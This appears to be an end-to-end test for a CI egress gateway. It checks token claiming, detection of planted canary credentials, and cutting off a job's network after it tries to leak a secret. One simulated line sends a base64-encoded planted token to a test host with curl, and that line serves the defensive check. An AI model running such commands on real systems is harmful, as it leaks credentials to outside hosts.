// What looks at jobs beside the rules, where one gateway serves many.
import { readFileSync } from 'node:fs'
import t from 'tap'
import { tidegate } from '../e2e/behind.ts'
import { openLab } from '../lab/lab.ts'
import { whyNoLab } from '../lab/requirements.ts'
import { openServeRig, trusting } from './serve-rig.ts'

t.setTimeout(120_000)

const policy = `version: 1
mode: block
allow: [api.acme.test, api.github.com]
canaries: true
tokens: { pin: true }
packages: {}
`

t.test(
  'a served job: planted credentials are found, and only the tokens it claimed are used',
  { skip: whyNoLab() },
  async t => {
    await using lab = await openLab()
    await lab.serve('api.github.com')
    await using rig = await openServeRig(lab, { policies: { plain: trusting(lab, policy) } })
    const [own, other] = [await rig.container('build'), await rig.container('neighbour')]
    for (const container of [own, other]) {
      const { exitCode, stderr } = await container.link('--policy', 'plain')
      t.equal(exitCode, 0, stderr)
    }
    const github = (token: string): string =>
      `curl -s -m20 -o /dev/null -w '%{http_code}\\n' -H 'Authorization: Bearer ${token}' https://api.github.com/status/204`
    const claim = `{"op":"claim","by":"run 7","tokens":{"GITHUB_TOKEN":"token-of-the-job"}}`
    const claimed = `printf '%s\\n' '${claim}' | timeout 10 nc -NU /run/tidegate/job.sock`
    const used = await own.sh(
      `${github('token-of-the-job')}; ${claimed}; ${github('token-of-the-job')}; ${github('of-somebody')}`,
    )
    t.match(used.stdout, /^403\n\{"ok":true[^\n]*\n204\n403\n$/, used.stderr)

    const planted: Readonly<Record<string, string>> = JSON.parse(
      readFileSync(`${rig.runFolder('build')}/env.json`, 'utf8'),
    )
    const [name = '', value = ''] =
      Object.entries(planted).find(([variable, text]) => /TOKEN/.test(variable) && text !== null) ?? []
    t.ok(value.length > 20, `a planted token is among the variables of the job: ${name}`)
    const sent = `curl -s -m20 -o /dev/null -w '%{http_code}\\n' https://api.acme.test/echo`
    const stolen = await own.sh(`${sent}; ${sent} -d "x=$(printf %s '${value}' | base64 -w0)"; ${sent} || true`)
    t.match(stolen.stdout, /^200\n403\n000\n$/, 'and then the job has no network')
    t.equal((await other.sh(sent)).stdout, '200\n', 'its neighbour has')
    rig.kill('SIGTERM')
    t.equal(await rig.ended, 0)
    const alarms = rig
      .lines('build')
      .flatMap(({ details }) => (typeof details?.['kind'] === 'string' ? [details['kind']] : []))
    t.strictSame([...new Set(alarms)].toSorted(), ['canary', 'token-unpinned'])
    t.strictSame(
      rig.lines('neighbour').filter(({ layer, event }) => layer === 'job' && event === 'canary'),
      [],
    )
    t.equal((await lab.host.exec(tidegate, ['verify', rig.record('build')])).exitCode, 0)
  },
)
